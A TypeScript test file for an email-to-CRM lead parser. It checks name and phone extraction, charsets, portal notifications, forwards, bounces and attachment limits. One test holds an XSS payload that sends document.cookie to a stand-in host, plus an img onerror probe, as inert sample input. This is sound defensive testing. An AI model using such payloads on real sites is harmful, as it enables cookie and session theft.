import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { canonicalLeadSchema } from "../../../../core/lead/canonical.ts";
import { readEmail, type ReadEmailOptions } from "../../../../core/capture/email/read-email.ts";

const OUR_DOMAINS = ["sunrisedevelopers.in", "valvetech.co.in", "shahbuildcon.com", "ourco.com"];

function fixture(name: string): Buffer {
  return readFileSync(new URL(`../../../fixtures/email/${name}`, import.meta.url));
}

async function read(name: string, opts: ReadEmailOptions = {}) {
  const reading = await readEmail(fixture(name), { ourDomains: OUR_DOMAINS, ...opts });
  if (reading.lead) expect(canonicalLeadSchema.parse(reading.lead)).toEqual(reading.lead);
  return reading;
}

describe("direct enquiries", () => {
  it("when a Gmail user writes with a signature, then the lead is the sender with the signature's phone, title and company", async () => {
    const r = await read("direct-gmail-signature.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("sender");
    expect(r.messageId).toBe("CAJx8Qp3vN7mA2k+Gq1cRzP0=8wQm4nF5y@mail.gmail.com");
    expect(r.from).toEqual({ name: "Rahul Patil", address: "rahul.patil1987@gmail.com" });
    expect(r.lead).toMatchObject({
      name: "Rahul Patil",
      first_name: "Rahul",
      last_name: "Patil",
      email: "rahul.patil1987@gmail.com",
      phone: "+919822012345",
      company: "Shreeji Constructions Pvt Ltd",
      job_title: "Purchase Manager",
      source: "email",
    });
    expect(r.lead?.subsource ?? null).toBeNull();
    expect(r.note).toMatch(/^Enquiry for 3 BHK at Sunrise Heights\n\nHello Team,/);
    expect(r.lead?.message).toBe(r.note);
    expect(r.note).not.toContain("<div");
  });

  it("when a corporate sender's signature names no company, then the company comes from the email domain", async () => {
    const r = await read("corporate-domain.eml");
    expect(r.kind).toBe("lead");
    expect(r.lead).toMatchObject({
      name: "Anjali Mehta",
      email: "anjali.mehta@acme-realty.co.in",
      company: "Acme Realty",
      phone: "+912240012345",
    });
    expect(r.note).toContain("empanel for Sunrise Heights");
    expect(r.note).not.toContain("Sent from my iPhone");
  });

  it("when the mail is HTML only, then the note is its text, without tags, styles or scripts", async () => {
    const r = await read("html-only.eml");
    expect(r.kind).toBe("lead");
    expect(r.lead).toMatchObject({ name: "Arjun Reddy", company: "GreenLeaf Organics LLP", job_title: "Director", phone: "+919000012345" });
    expect(r.note).toContain("14 outlets in Hyderabad & Bengaluru");
    expect(r.note).toContain("(approx. 5,000 sq ft)");
    expect(r.note).not.toMatch(/<[a-z/]|&nbsp;|&amp;|tracking|margin:0/);
  });

  it("when a mail carries a <script> in a form field, then it is kept as text in the note and the fields", async () => {
    const r = await read("script-in-body.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("portal_body");
    expect(r.lead).toMatchObject({
      name: "Test User",
      email: "test.user@example.org",
      phone: "+919011022334",
      company: "<b>Acme</b> & Sons",
      subsource: "Elementor",
    });
    expect(r.lead?.landing_page).toBe("https://sunrisedevelopers.in/contact/?utm_source=google");
    expect(r.note).toContain("<script>document.location='https://evil.example/?c='+document.cookie</script>");
    expect(r.note).toContain("<img src=x onerror=alert(1)>");
    expect(JSON.stringify(r.lead?.custom_fields ?? {})).not.toMatch(/Remote IP|User Agent/);
  });

  it("when a spam mail sells SEO with no address and no phone, then it is spam, with the reason", async () => {
    const r = await read("spam-no-contact.eml");
    expect(r.kind).toBe("spam");
    expect(r.lead).toBeNull();
    expect(r.reason).toMatch(/^spam: marketing/);
  });
});

describe("charsets and transfer encodings", () => {
  it("when the mail is Windows-1252 quoted-printable, then accented names and the euro sign read right", async () => {
    const r = await read("windows-1252-qp.eml");
    expect(r.subject).toBe("Solicitud de catálogo – bombas centrífugas");
    expect(r.lead).toMatchObject({
      name: "José Fernández",
      first_name: "José",
      last_name: "Fernández",
      email: "jose.fernandez@ibermaq.es",
      phone: "+34612345678",
      company: "Ibermaq Importaciones S.L.",
      job_title: "Director de Compras",
    });
    expect(r.note).toContain("lista de precios en € con plazos");
    expect(r.note).toContain("¿Podrían");
  });

  it("when the mail is UTF-8 base64 with a Devanagari name, then the name splits and the phone in the text is found", async () => {
    const r = await read("utf8-base64-devanagari.eml");
    expect(r.kind).toBe("lead");
    expect(r.from.name).toBe("राहुल पाटील");
    expect(r.lead).toMatchObject({
      name: "राहुल पाटील",
      first_name: "राहुल",
      last_name: "पाटील",
      email: "rahul.patil.pune@gmail.com",
      phone: "+919822054321",
    });
    expect(r.lead?.company ?? null).toBeNull();
    expect(r.note).toContain("मुझे बाणेर में 2 BHK फ्लैट चाहिए।");
  });

  it("when the mail is ISO-8859-1 8bit, then the French text and the signature read right", async () => {
    const r = await read("iso-8859-1.eml");
    expect(r.lead).toMatchObject({
      name: "François Müller",
      company: "Château Vins SARL",
      job_title: "Directeur des achats",
      phone: "+33142685300",
    });
    expect(r.note).toContain("vannes à boisseau sphérique");
  });

  it("when the mail is ISO-2022-JP, then the Japanese name, company and Tokyo number read right", async () => {
    const r = await read("iso-2022-jp.eml");
    expect(r.subject).toBe("見積もり依頼：ボールバルブ");
    expect(r.lead).toMatchObject({
      name: "山田 太郎",
      email: "t.yamada@sakura-trading.co.jp",
      company: "さくら商事株式会社",
      phone: "+81312345678",
    });
    expect(r.note).toContain("300個の見積もり");
  });
});

describe("portal and form notifications", () => {
  it("when 99acres sends a plain-text response with a Reply-To, then the lead is the buyer in the body, not the noreply sender", async () => {
    const r = await read("portal-99acres.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("portal_body");
    expect(r.lead).toMatchObject({
      name: "Vikram Singh",
      email: "vikram.singh82@yahoo.co.in",
      phone: "+919890012345",
      city: "Pune",
      budget: "₹ 1.1 Cr",
      budget_currency: "INR",
      product_interest: "3 BHK Apartment, Kharadi, Pune (ID: A71234567)",
      subsource: "99acres",
    });
    expect(r.lead?.alt_phone ?? null).toBeNull(); // the toll-free helpline is not the buyer's
    expect(r.note).toContain("Please call me after 6 pm.");
  });

  it("when MagicBricks sends an HTML table in quoted-printable, then each row becomes a field", async () => {
    const r = await read("portal-magicbricks-html.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("portal_body");
    expect(r.lead).toMatchObject({
      name: "Sneha Deshpande",
      email: "sneha.deshpande@rediffmail.com",
      phone: "+919922334455",
      product_interest: "Sunrise Heights, Baner",
      budget: "75 Lac - 90 Lac",
      city: "Pune",
      subsource: "MagicBricks",
      custom_fields: { "Property Type": "2 BHK Apartment" },
    });
    expect(r.note).toContain("Name: Sneha Deshpande\nMobile: +91 - 9922334455");
    expect(r.note).toContain("loan tie-up with SBI & HDFC?");
    expect(r.note).not.toMatch(/<td|td\{font-family/);
  });

  it("when Housing.com writes <b>Label:</b> value<br> behind a text stub, then the HTML fields are read", async () => {
    const r = await read("portal-housing-bold.eml");
    expect(r.extractedFrom).toBe("portal_body");
    expect(r.lead).toMatchObject({
      name: "Farhan Qureshi",
      phone: "+917045123456",
      email: "farhan.q@icloud.com",
      city: "Wakad, Pune",
      subsource: "Housing.com",
    });
    expect(r.note).toContain("Comments: Please share the final price & parking details.");
  });

  it("when IndiaMART sends an enquiry, then buyer, company, GSTIN, requirement and enquiry id are read; extra labels become custom fields", async () => {
    const r = await read("portal-indiamart.eml");
    expect(r.kind).toBe("lead");
    expect(r.lead).toMatchObject({
      name: "Suresh Kumar",
      company: "Kumar Engineering Works",
      phone: "+919812345678",
      email: "suresh@kumarengg.com",
      city: "Pune",
      state: "Maharashtra",
      gstin: "27AAFCK1234M1Z5",
      external_id: "8834512097",
      product_interest: "Stainless Steel Ball Valve 2 inch",
      subsource: "IndiaMART",
      custom_fields: { Quantity: "200 Piece", "Probable Order Value": "Rs. 1 to 2 Lakh" },
    });
    expect(r.lead?.need).toMatch(/^We need SS 304 ball valves/);
  });

  it("when JustDial sends a bulk-marked enquiry, then the portal lead wins over the Precedence: bulk header", async () => {
    const r = await read("portal-justdial.eml");
    expect(r.kind).toBe("lead");
    expect(r.lead).toMatchObject({ name: "Sanjay Gupta", phone: "+919820098200", city: "Mumbai", subsource: "JustDial" });
    expect(r.lead?.email ?? null).toBeNull();
  });

  it("when WordPress Contact Form 7 mails its default template, then the visitor in 'From:' is the lead and the phone in the message is found", async () => {
    const r = await read("cf7-wordpress.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("portal_body");
    expect(r.lead).toMatchObject({
      name: "Neha Kulkarni",
      email: "neha.k@outlook.com",
      phone: "+919765432109",
      subsource: "Contact Form 7",
    });
    expect(r.note).toContain("schedule a site visit this Saturday");
  });
});

describe("forwarded enquiries", () => {
  it("when a colleague forwards from Gmail, then the lead is the original sender and the note is the forwarded text", async () => {
    const r = await read("gmail-forward.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("forwarded");
    expect(r.from.address).toBe("amit@shahbuildcon.com");
    expect(r.lead).toMatchObject({
      name: "Priya Nair",
      email: "priya.nair@technova.io",
      phone: "+919923045678",
      company: "TechNova Solutions Pvt Ltd",
      job_title: "Head - Admin & Facilities",
    });
    expect(r.note).toMatch(/^Enquiry for office space in Baner\n\nHello,/);
    expect(r.note).toContain("Forwarded by Amit Shah <amit@shahbuildcon.com>:\nPlease add this one to the CRM");
  });

  it("when Outlook forwards with a From/Sent/To/Subject block, then the lead is the original sender, not the forwarder", async () => {
    const r = await read("outlook-forward.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("forwarded");
    expect(r.lead).toMatchObject({
      name: "Deepak Verma",
      email: "deepak.verma@brightlights.co.in",
      phone: "+919893012345",
      company: "Bright Lights Electricals",
    });
    expect(r.lead?.phone).not.toBe("+919845000000"); // the forwarder's own number
    expect(r.note).toContain("Forwarded by Sameer Kulkarni <sameer.kulkarni@ourco.com>");
  });

  it("when the enquiry is forwarded as an attached message/rfc822, then the attached message's sender is the lead", async () => {
    const r = await read("rfc822-attached-forward.eml");
    expect(r.kind).toBe("lead");
    expect(r.extractedFrom).toBe("forwarded");
    expect(r.lead).toMatchObject({
      name: "Karthik R",
      email: "karthik.r@precisionparts.in",
      phone: "+919444012345",
      alt_phone: "+914423456789",
      company: "Precision Parts Engineering",
    });
    expect(r.note).toMatch(/^Quote request - CNC machining of 2,000 flanges\n\nDear Meera,/);
    expect(r.attachments).toEqual([
      expect.objectContaining({ filename: "Quote request - CNC machining of 2,000 flanges.eml", contentType: "message/rfc822" }),
    ]);
  });
});

describe("auto-replies and bounces", () => {
  it("when an out-of-office says Auto-Submitted: auto-replied, then it is an auto-reply even though it answers our mail", async () => {
    const r = await read("ooo-auto-submitted.eml");
    expect(r.kind).toBe("auto_reply");
    expect(r.lead).toBeNull();
    expect(r.inReplyTo).toEqual(["nurture.4f1c2a.step2@mail.sunrisedevelopers.in"]);
    expect(r.reason).toContain("Auto-Submitted: auto-replied");
  });

  it("when Exchange sends an OOF (X-Auto-Response-Suppress and 'Automatic reply:'), then it is an auto-reply", async () => {
    const r = await read("exchange-oof.eml");
    expect(r.kind).toBe("auto_reply");
    expect(r.lead).toBeNull();
    expect(r.reason).toMatch(/X-Auto-Response-Suppress: All and subject "Automatic reply:/);
  });

  it("when Postfix returns a delivery status report, then it is a bounce naming the failed recipient and our message", async () => {
    const r = await read("postfix-dsn.eml");
    expect(r.kind).toBe("bounce");
    expect(r.reason).toBe("bounce: rahul.patil@example.com");
    expect(r.inReplyTo).toContain("nurture.9c2e11.step1@mail.sunrisedevelopers.in");
    expect(r.lead).toBeNull();
  });

  it("when Gmail sends 'Delivery Status Notification (Failure)', then it is a bounce for the mistyped address", async () => {
    const r = await read("gmail-dsn.eml");
    expect(r.kind).toBe("bounce");
    expect(r.reason).toBe("bounce: sunil.k@gmial.com");
    expect(r.inReplyTo).toEqual(["CAHp2rT0AbCdEfGhIjKlMnOpQrStUvWxYz0123@mail.gmail.com"]);
  });
});

describe("replies to our messages", () => {
  it("when someone replies with In-Reply-To and quotes us, then it is a reply with their details and without the quoted text", async () => {
    const r = await read("reply-quoted.eml");
    expect(r.kind).toBe("reply");
    expect(r.inReplyTo).toEqual(["nurture.4f1c2a.step1@mail.sunrisedevelopers.in"]);
    expect(r.lead).toMatchObject({ name: "Rahul Patil", email: "rahul.patil1987@gmail.com" });
    expect(r.lead?.phone ?? null).toBeNull(); // +91 20 4000 1234 is in our quoted text
    expect(r.note).toBe(
      "Re: Your enquiry for 3 BHK at Sunrise Heights\n\nYes, Saturday 11 am works for us. We will come with my parents.\n\nRahul",
    );
  });
});

describe("attachments", () => {
  it("when attachments fit the cap, then each is kept with its content", async () => {
    const r = await read("pdf-attachments.eml");
    expect(r.kind).toBe("lead");
    expect(r.lead).toMatchObject({ name: "Imran Sheikh", phone: "+971501234567", company: "Hydroflow Systems" });
    expect(r.attachments.map((a) => [a.filename, a.contentType, a.size, a.content?.length ?? null])).toEqual([
      ["Requirement specification.pdf", "application/pdf", 2012, 2012],
      ["site-layout.pdf", "application/pdf", 1358, 1358],
    ]);
    expect(r.attachments[0].content?.subarray(0, 8).toString()).toBe("%PDF-1.4");
  });

  it("when the running total passes the cap, then the attachment past it is listed without content", async () => {
    const r = await read("pdf-attachments.eml", { maxAttachmentBytes: 3000 });
    expect(r.attachments.map((a) => [a.filename, a.size, a.content === null])).toEqual([
      ["Requirement specification.pdf", 2012, false],
      ["site-layout.pdf", 1358, true],
    ]);
  });

  it("when a single attachment is over the cap, then it has no content and a smaller one after it still fits", async () => {
    const r = await read("pdf-attachments.eml", { maxAttachmentBytes: 1500 });
    expect(r.attachments.map((a) => [a.filename, a.content === null])).toEqual([
      ["Requirement specification.pdf", true],
      ["site-layout.pdf", false],
    ]);
  });
});
